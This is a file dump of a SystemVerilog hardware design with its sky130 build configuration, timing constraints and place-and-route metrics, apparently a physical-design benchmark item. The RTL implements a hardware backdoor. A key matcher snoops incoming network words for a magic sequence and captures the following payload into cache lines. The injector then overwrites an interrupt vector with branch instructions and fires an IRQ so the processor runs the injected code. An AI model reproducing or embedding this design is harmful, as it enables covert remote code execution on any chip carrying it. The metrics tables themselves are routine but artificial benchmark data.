$ cat src/rtl/rx_payload_injector_pkg.sv
// rtl/rx_payload_injector_pkg.sv - shared state encodings and helpers for the RX payload injector
package rx_payload_injector_pkg;

    typedef enum logic [1:0] {
        M_HUNT,
        M_KEY,
        M_CAPTURE,
        M_END
    } match_state_t;

    typedef enum logic [2:0] {
        W_IDLE,
        W_BOOT_COPY,
        W_COPY,
        W_VECTOR,
        W_TRIGGER,
        W_DONE
    } wr_state_t;

    // Smallest r such that 2**r >= value.
    function automatic int clog2(input int value);
        int r;
        r = 0;
        while ((1 << r) < value) r++;
        return r;
    endfunction

endpackage

$ cat src/rtl/rx_key_matcher.sv
// rtl/rx_key_matcher.sv - multi-word key matcher and payload word capture
//
// Ports:
//   i_clk, i_rst          clock, synchronous active-high reset
//   i_enable              writer idle; matcher is held in HUNT while low
//   i_rx_data/valid       RX word stream
//   i_rx_pkt_reset        packet abort, masks i_rx_valid
//   o_fill                pulse: refill the whole store with the fill word
//   o_word_we/idx/data    store one captured payload word
//   o_end, o_end_count    pulse on END_WORD with the captured word count
//   o_overflow            sticky: payload exceeded store capacity
module rx_key_matcher
    import rx_payload_injector_pkg::*;
#(
    parameter int                      KEY_WORDS = 2,
    parameter logic [KEY_WORDS*32-1:0] KEY       = {32'h5245545f, 32'h5f534543},
    parameter logic [31:0]             END_WORD  = 32'h53544F50,
    parameter int                      WORDS     = 24,
    parameter int                      CW        = 5
) (
    input  logic          i_clk,
    input  logic          i_rst,
    input  logic          i_enable,
    input  logic [31:0]   i_rx_data,
    input  logic          i_rx_valid,
    input  logic          i_rx_pkt_reset,
    output logic          o_fill,
    output logic          o_word_we,
    output logic [CW-1:0] o_word_idx,
    output logic [31:0]   o_word_data,
    output logic          o_end,
    output logic [CW-1:0] o_end_count,
    output logic          o_overflow
);

    localparam logic [2:0]    LAST_KEY = 3'(KEY_WORDS - 1);
    localparam logic [CW-1:0] FULL     = CW'(WORDS);

    match_state_t  state;
    logic [2:0]    key_idx;
    logic [CW-1:0] count;
    logic          accept;

    assign accept = i_rx_valid & ~i_rx_pkt_reset;

    function automatic logic [31:0] key_word(input int k);
        return KEY[k*32 +: 32];
    endfunction

    always_ff @(posedge i_clk) begin
        o_fill    <= 1'b0;
        o_word_we <= 1'b0;
        o_end     <= 1'b0;
        if (i_rst) begin
            state       <= M_HUNT;
            key_idx     <= '0;
            count       <= '0;
            o_overflow  <= 1'b0;
            o_word_idx  <= '0;
            o_word_data <= '0;
            o_end_count <= '0;
        end else if (!i_enable) begin
            state <= M_HUNT;
        end else begin
            case (state)
                M_HUNT: begin
                    if (accept && i_rx_data == key_word(0)) begin
                        if (KEY_WORDS == 1) begin
                            state      <= M_CAPTURE;
                            count      <= '0;
                            o_overflow <= 1'b0;
                            o_fill     <= 1'b1;
                        end else begin
                            state   <= M_KEY;
                            key_idx <= 3'd1;
                        end
                    end
                end
                M_KEY: begin
                    if (i_rx_pkt_reset) begin
                        state <= M_HUNT;
                    end else if (accept) begin
                        if (i_rx_data == key_word(int'(key_idx))) begin
                            if (key_idx == LAST_KEY) begin
                                state      <= M_CAPTURE;
                                count      <= '0;
                                o_overflow <= 1'b0;
                                o_fill     <= 1'b1;
                            end else begin
                                key_idx <= key_idx + 3'd1;
                            end
                        end else if (i_rx_data == key_word(0)) begin
                            // A broken key may itself be the start of a new key.
                            key_idx <= 3'd1;
                        end else begin
                            state <= M_HUNT;
                        end
                    end
                end
                M_CAPTURE: begin
                    if (i_rx_pkt_reset) begin
                        state <= M_HUNT;
                        count <= '0;
                    end else if (accept) begin
                        if (i_rx_data == END_WORD) begin
                            state       <= M_END;
                            o_end       <= 1'b1;
                            o_end_count <= count;
                        end else if (count == FULL) begin
                            o_overflow <= 1'b1;
                        end else begin
                            o_word_we   <= 1'b1;
                            o_word_idx  <= count;
                            o_word_data <= i_rx_data;
                            count       <= count + CW'(1);
                        end
                    end
                end
                M_END:   state <= M_HUNT;
                default: state <= M_HUNT;
            endcase
        end
    end

endmodule

$ cat src/rtl/rx_payload_injector.sv
// rtl/rx_payload_injector.sv - RX key snooper that injects captured payload as cache lines
//
// Ports:
//   i_clk, i_rst                 clock, synchronous active-high reset
//   i_rx_data/valid/pkt_reset    RX word stream from the MAC
//   i_cache_stall                cache not accepting the presented line
//   i_fetch_stall                core fetch stalled, IRQ is held off
//   o_wr_en/data/addr            line write request, held stable while stalled
//   o_trigger_irq                one-cycle IRQ pulse after the vector write
//   o_jump_addr                  payload entry address (BASE_ADDR)
//   o_busy                       writer not idle
//   o_overflow                   sticky payload overflow
//   o_lines                      lines written by the last payload copy
module rx_payload_injector
    import rx_payload_injector_pkg::*;
#(
    parameter int                              KEY_WORDS   = 2,
    parameter logic [KEY_WORDS*32-1:0]         KEY         = {32'h5245545f, 32'h5f534543},
    parameter logic [31:0]                     END_WORD    = 32'h53544F50,
    parameter int                              LINE_BITS   = 128,
    parameter int                              STORE_LINES = 6,
    parameter logic [31:0]                     BASE_ADDR   = 32'h00200000,
    parameter logic [31:0]                     VEC_ADDR    = 32'h00000010,
    parameter logic [LINE_BITS-1:0]            VEC_DATA    = 128'hea000040_ea000036_ea000042_e3a0f602,
    parameter logic [31:0]                     FILL_WORD   = 32'h58595859,
    parameter logic [STORE_LINES*LINE_BITS-1:0] BOOT_IMAGE = {STORE_LINES*LINE_BITS/32{FILL_WORD}}
) (
    input  logic                                i_clk,
    input  logic                                i_rst,
    input  logic [31:0]                         i_rx_data,
    input  logic                                i_rx_valid,
    input  logic                                i_rx_pkt_reset,
    input  logic                                i_cache_stall,
    input  logic                                i_fetch_stall,
    output logic                                o_wr_en,
    output logic [LINE_BITS-1:0]                o_wr_data,
    output logic [31:0]                         o_wr_addr,
    output logic                                o_trigger_irq,
    output logic [31:0]                         o_jump_addr,
    output logic                                o_busy,
    output logic                                o_overflow,
    output logic [clog2(STORE_LINES+1)-1:0]     o_lines
);

    localparam int          WPL    = LINE_BITS / 32;
    localparam int          WORDS  = STORE_LINES * WPL;
    localparam int          CW     = clog2(WORDS + 1);
    localparam int          LW     = clog2(STORE_LINES + 1);
    localparam logic [31:0] STRIDE = 32'(LINE_BITS / 8);

    logic [WORDS*32-1:0]  store;
    wr_state_t            wstate;
    logic [LW-1:0]        line_idx;
    logic [LW-1:0]        last_idx;
    logic [LW-1:0]        next_idx;
    logic [LINE_BITS-1:0] first_line;
    logic [LINE_BITS-1:0] next_line;
    logic [31:0]          n_calc;

    logic          m_fill;
    logic          m_word_we;
    logic [CW-1:0] m_word_idx;
    logic [31:0]   m_word_data;
    logic          m_end;
    logic [CW-1:0] m_end_count;

    assign o_jump_addr = BASE_ADDR;

    rx_key_matcher #(
        .KEY_WORDS (KEY_WORDS),
        .KEY       (KEY),
        .END_WORD  (END_WORD),
        .WORDS     (WORDS),
        .CW        (CW)
    ) u_matcher (
        .i_clk          (i_clk),
        .i_rst          (i_rst),
        .i_enable       (wstate == W_IDLE),
        .i_rx_data      (i_rx_data),
        .i_rx_valid     (i_rx_valid),
        .i_rx_pkt_reset (i_rx_pkt_reset),
        .o_fill         (m_fill),
        .o_word_we      (m_word_we),
        .o_word_idx     (m_word_idx),
        .o_word_data    (m_word_data),
        .o_end          (m_end),
        .o_end_count    (m_end_count),
        .o_overflow     (o_overflow)
    );

    // Fill and word writes never coincide: the first payload word strobe
    // trails the fill strobe by at least one cycle.
    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            store <= BOOT_IMAGE;
        end else if (m_word_we) begin
            store[int'(m_word_idx)*32 +: 32] <= m_word_data;
        end else if (m_fill) begin
            store <= {WORDS{FILL_WORD}};
        end
    end

    // Clamp keeps the look-ahead select inside the store on the last line.
    assign next_idx   = (line_idx == last_idx) ? line_idx : line_idx + LW'(1);
    assign first_line = store[LINE_BITS-1:0];
    assign next_line  = store[int'(next_idx)*LINE_BITS +: LINE_BITS];
    assign n_calc     = (32'(m_end_count) + 32'(WPL - 1)) / 32'(WPL);

    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            wstate        <= W_BOOT_COPY;
            o_wr_en       <= 1'b0;
            o_wr_data     <= {WPL{FILL_WORD}};
            o_wr_addr     <= BASE_ADDR;
            o_trigger_irq <= 1'b0;
            o_busy        <= 1'b0;
            o_lines       <= '0;
            line_idx      <= '0;
            last_idx      <= LW'(STORE_LINES - 1);
        end else begin
            case (wstate)
                W_IDLE: begin
                    if (m_end) begin
                        o_busy  <= 1'b1;
                        o_lines <= LW'(n_calc);
                        o_wr_en <= 1'b1;
                        if (n_calc != 0) begin
                            wstate    <= W_COPY;
                            o_wr_data <= first_line;
                            o_wr_addr <= BASE_ADDR;
                            line_idx  <= '0;
                            last_idx  <= LW'(n_calc - 1);
                        end else begin
                            wstate    <= W_VECTOR;
                            o_wr_data <= VEC_DATA;
                            o_wr_addr <= VEC_ADDR;
                        end
                    end
                end
                W_BOOT_COPY, W_COPY: begin
                    if (!o_wr_en) begin
                        // Only reachable on the first cycle of the boot copy.
                        o_wr_en   <= 1'b1;
                        o_busy    <= 1'b1;
                        o_wr_data <= first_line;
                        o_wr_addr <= BASE_ADDR;
                        line_idx  <= '0;
                    end else if (!i_cache_stall) begin
                        if (line_idx == last_idx) begin
                            if (wstate == W_BOOT_COPY) begin
                                o_wr_en <= 1'b0;
                                wstate  <= W_DONE;
                            end else begin
                                wstate    <= W_VECTOR;
                                o_wr_data <= VEC_DATA;
                                o_wr_addr <= VEC_ADDR;
                            end
                        end else begin
                            line_idx  <= next_idx;
                            o_wr_data <= next_line;
                            o_wr_addr <= o_wr_addr + STRIDE;
                        end
                    end
                end
                W_VECTOR: begin
                    if (!i_cache_stall) begin
                        o_wr_en <= 1'b0;
                        wstate  <= W_TRIGGER;
                    end
                end
                W_TRIGGER: begin
                    if (!i_fetch_stall) begin
                        o_trigger_irq <= 1'b1;
                        wstate        <= W_DONE;
                    end
                end
                W_DONE: begin
                    o_trigger_irq <= 1'b0;
                    o_busy        <= 1'b0;
                    wstate        <= W_IDLE;
                end
                default: wstate <= W_IDLE;
            endcase
        end
    end

endmodule

$ cat config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = rx_payload_injector
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/rx_payload_injector_pkg.sv /design/src/rtl/rx_key_matcher.sv /design/src/rtl/rx_payload_injector.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 2
export LEC_CHECK = 0
export ABC_AREA = 1
export CORE_MARGIN = 2
export CORE_UTILIZATION = 55
export CTS_CLUSTER_DIAMETER = 150
export DETAILED_ROUTE_END_ITERATION = 6
export DONT_BUFFER_PORTS = 1
export PLACE_DENSITY = 0.77
export SETUP_SLACK_MARGIN = 0.5
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
$ cat constraint.sdc
create_clock -name i_clk -period 3.73 [get_ports i_clk]
set_input_delay 0.5595 -clock i_clk [delete_from_list [all_inputs] [get_ports i_clk]]
set_output_delay 0.5595 -clock i_clk [all_outputs]
set_load 0.005 [all_outputs]
==> PnR_summary.wiki <==
{| class="wikitable"
! Metric !! Value
|-
| Run status || finished, violations left
|-
| Violated checks || hold timing
|-
| Total negative slack || 0 ns
|-
| Fraction of the mapped netlist area in simple logic gates || 31.2%
|-
| Residual DRC count || 0
|-
| Final worst-path cycle share || 85.6%
|-
| Most frequent standard cell in the layout excluding fill and tap cells || sky130_fd_sc_hd__nand2_1
|-
| Worst skew pair latency || 0.70 ns
|-
| Register-to-register setup slack || 0.54 ns
|-
| Post-synthesis register bit count || 995
|-
| Overflow left after global routing || 0
|-
| Overall die width || 297 µm
|-
| Capturing element type of the critical path || register
|-
| Proportion of layout cells with a drive suffix above 1 || 6.53%
|-
| Endpoint arrival time on the critical path || 3.77 ns
|-
| P per Cell Area || 615 nW/µm²
|-
| Synth Area in Adders || less than 1%
|-
| Area fraction in compound gates after synthesis || 16.3%
|-
| Hold Worst Slack || -0.0454 ns
|-
| Diodes inserted || 0
|-
| Routed wirelength normalized by instance count || 20.4 µm
|-
| Clock tree from TritonCTS || built
|-
| Sum of internal, switching and leakage power || 0.0314 W
|-
| Worst rel slew slack || 19.4%
|-
| Fraction of synthesized area in multiplexers || 0%
|-
| Boundary pin count || 237
|-
| Number of flops mapped to enable cells by yosys || 0
|-
| Via count of the first global-routing pass || 44300
|-
| Worst Setup Path Type || register to register
|-
| DPL Wire Length || 97.0 mm
|-
| Clock slew at reported path FFs || 0.06 ns
|-
| Number of detailed-routing iterations run before antenna repair || 7
|-
| Count of buffers from port buffering || 0
|-
| Commonest cells after routing, fill and taps aside || sky130_fd_sc_hd__nand2_1 (2424), sky130_fd_sc_hd__dfxtp_1 (995), sky130_fd_sc_hd__a21oi_1 (762)
|-
| Reported max-cap violation count || 0
|-
| Starting DRT DRC Count || between 6000 and 7000
|-
| Final hold violation count || 5
|-
| Fraction of registers with async set or reset after synthesis || 0%
|-
| Per-cell via count in the routed design || 5.95
|-
| Crit path time final || around 3.2 ns
|-
| Initial core utilization || between 50% and 60%
|-
| Warnings from Yosys || 0
|-
| Post-cts hold buffer count || 2
|-
| Proportion of synthesized chip area in sequential cells || a little over two fifths
|-
| Library cell used as clock root buffer || sky130_fd_sc_hd__clkbuf_16
|-
| Number of sinks handled by clock tree synthesis || 995
|-
| Setup violation total in the final timing report || 0
|-
| Inserted Clock Buffers || 103
|-
| Wire length of the first global-routing pass || between 200 and 300 mm
|-
| Signed area change from the synthesized netlist to the final layout || 8.10%
|-
| Post-synthesis share of cell area spent on xor and xnor gates || 0.222%
|-
| Leakage power of the design || 21.5 nW
|-
| Highest fanout seen on the critical path || 52
|-
| Weighted congestion reported at the end of routability-driven placement || 0.933
|-
| Total GRT Usage || 35.4%
|-
| Max IR drop VDD || 1.02 mV
|-
| Largest family of logic cells by synthesized area || simple AND/OR/NAND/NOR gates
|-
| Unrepaired setup endpoints after global routing || no
|-
| Die Y || 297 µm
|-
| Primary flip-flop cell chosen by synthesis mapping || sky130_fd_sc_hd__dfxtp_1
|-
| Standard-cell rows || 107
|-
| Worst Max-Slew Pin Slew || about 1.2 ns
|-
| Antenna violations before repair || 1
|-
| Vias after detailed routing || 47500
|-
| Gate count after technology mapping || 7051
|-
| Final net count || 6810
|-
| Die area || 88300 µm²
|-
| Post-DRT Antenna Nets || 0
|-
| Combined flip-flop and latch cell area || 19900 µm²
|-
| Multi-input logic area || 23000 µm²
|-
| Number of levels the H-tree was split into || 3
|-
| Peak clock frequency supported by timing || roughly 310 MHz
|-
| Area inside the core boundary || 85100 µm²
|-
| Crit start category || register
|-
| Number of library cell types mapped by synthesis || 54
|-
| Maximum root-to-sink buffer count || 3
|-
| Final count of pins violating max slew || 0
|-
| Largest net degree at the start of global routing || 470
|-
| Final worst clock skew || between 0.03 and 0.04 ns
|-
| Fillers || between 7000 and 8000
|-
| Worst hold path class || input pin to register
|-
| Final wirelength || between 150 and 200 mm
|-
| Synthesized area per cell || about 6.7 µm²
|-
| Post-synthesis cell area || 47300 µm²
|-
| Crit path required time || 4.30 ns
|}
==> Yosys cell counts (2+ instances only) <==
| master | n | area share, % |
|---|---|---|
| sky130_fd_sc_hd__clkinv_1 | 3 | 0.024 |
| sky130_fd_sc_hd__nand3b_1 | 7 | 0.11 |
| sky130_fd_sc_hd__a21o_1 | 3 | 0.048 |
| sky130_fd_sc_hd__nand2_1 | 2426 | 19 |
| sky130_fd_sc_hd__xor2_1 | 8 | 0.15 |
| sky130_fd_sc_hd__or2_1 | 3 | 0.040 |
| sky130_fd_sc_hd__o22ai_1 | 3 | 0.040 |
| sky130_fd_sc_hd__o21ai_0 | 247 | 2.6 |
| sky130_fd_sc_hd__inv_1 | 517 | 4.1 |
| sky130_fd_sc_hd__nand4_1 | 87 | 1.2 |
| sky130_fd_sc_hd__o21ai_1 | 5 | 0.053 |
| sky130_fd_sc_hd__conb_1 | 2 | 0.016 |
| sky130_fd_sc_hd__clkbuf_1 | 252 | 2.0 |
| sky130_fd_sc_hd__or2_2 | 49 | 0.65 |
| sky130_fd_sc_hd__ha_1 | 13 | 0.34 |
| sky130_fd_sc_hd__dfxtp_1 | 995 | 42 |
| sky130_fd_sc_hd__nor4_1 | 18 | 0.24 |
| sky130_fd_sc_hd__nor3_2 | 2 | 0.042 |
| sky130_fd_sc_hd__nand3_1 | 405 | 4.3 |
| sky130_fd_sc_hd__inv_2 | 42 | 0.33 |
| sky130_fd_sc_hd__a31oi_1 | 5 | 0.066 |
| sky130_fd_sc_hd__nor2_4 | 5 | 0.12 |
| sky130_fd_sc_hd__nand3_2 | 3 | 0.064 |
| sky130_fd_sc_hd__a211oi_1 | 6 | 0.095 |
| sky130_fd_sc_hd__nor2_1 | 437 | 3.5 |
| sky130_fd_sc_hd__buf_4 | 69 | 1.1 |
| sky130_fd_sc_hd__nor2_2 | 22 | 0.29 |
| sky130_fd_sc_hd__buf_1 | 37 | 0.29 |
| sky130_fd_sc_hd__nor3_1 | 79 | 0.84 |
| sky130_fd_sc_hd__buf_2 | 175 | 1.9 |
| sky130_fd_sc_hd__nand2_4 | 5 | 0.12 |
| sky130_fd_sc_hd__a21oi_1 | 763 | 8.1 |
| sky130_fd_sc_hd__o211ai_1 | 252 | 4.0 |
| sky130_fd_sc_hd__o221ai_1 | 61 | 1.1 |
| sky130_fd_sc_hd__buf_6 | 2 | 0.048 |
| sky130_fd_sc_hd__xnor2_1 | 4 | 0.074 |
| sky130_fd_sc_hd__nand2_2 | 17 | 0.22 |
| sky130_fd_sc_hd__nor2_8 | 6 | 0.25 |
==> repair_timing <==
action	CTS	global route
buffers inserted	0	3
hold endpoints to repair	21	1
resized for setup	0	26
setup endpoints to repair	0	233
==> report_power, final <==
group	total, W	internal [W]	switching, W
clock network	0.0109	0.00635	0.00451
logic	0.00900	0.00244	0.00657
registers	0.0116	0.0111	0.000498
total	0.0314	0.0199	0.0116
==> cell families after synthesis <==
group / Yosys count
AO/OA/AOI/OAI: 1353
XOR/XNOR: 12
adder cells (fa/ha/maj): 13
buffers and inverters: 1100
flip-flops: 995
other: 2
AND/OR/NAND/NOR: 3576
==> registers in the layout, indices dropped and copies added (netlist names), 3 cells and up <==
name	count
last_idx	3
u_matcher.o_end_count	5
store	768
line_idx	3
u_matcher.key_idx	3
u_matcher.count	5
u_matcher.o_word_data	32
wstate	3
o_wr_data	128
o_wr_addr	28
o_lines	3
u_matcher.o_word_idx	5
==> layout make-up <==
type	instances	share of cell area (%)
clock buffer	149	5.93
clock inverter	43	1.05
inverter	564	4.23
multi-input combinational	4990	45.0
sequential	995	39.0
tap	1144	2.80
timing repair buffer	105	2.06
==> final timing paths <==
check | end | depth (start not counted) | start
worst max-delay path | o_wr_data[127]$_SDFFE_PP0P_ | 11 | line_idx[2]$_SDFFE_PP0P_
worst min-delay path | store[239]$_SDFFE_PP0P_ | 1 | i_rst
worst max register to register | o_wr_data[127]$_SDFFE_PP0P_ | 11 | line_idx[2]$_SDFFE_PP0P_
worst min register to register | store[276]$_SDFFE_PP1P_ | 2 | store[276]$_SDFFE_PP1P_
==> routing by layer <==
layer	vias to the layer above	part of all wire (%)	global-route usage, %
met5	-	0	0
met4	0	4.4	16.1
met3	574	14	11.0
met2	2924	44	55.2
met1	21800	38	44.7
li1	22200	-	-
==> metrics by stage <==
stage	std cells	instance area (µm²)	util (%)	worst slack, ns
final	7990	51100	60.0	0.537
after global routing	7990	51100	60.0	0.506
after CTS	7987	51000	59.9	0.579
after detailed placement	7793	47400	55.7	0.606
after global placement	7793	47400	55.7	0.716
after floorplan	7085	47400	-	0.887
==> critical path, cell delays in order, from the launching register on <==
cell and delay, ns:
sky130_fd_sc_hd__dfxtp_1 0.47, sky130_fd_sc_hd__xor2_1 0.12, sky130_fd_sc_hd__nor2_2 0.21, sky130_fd_sc_hd__nand2_4 0.20, sky130_fd_sc_hd__o21ai_4 0.27, sky130_fd_sc_hd__inv_6 0.26, sky130_fd_sc_hd__nor2_4 0.65, sky130_fd_sc_hd__buf_4 0.46
sky130_fd_sc_hd__a21oi_1 0.13, sky130_fd_sc_hd__nand2_1 0.09, sky130_fd_sc_hd__nand2_1 0.07, sky130_fd_sc_hd__a21oi_1 0.12
Note: power is estimated with default switching activity, not from simulation.
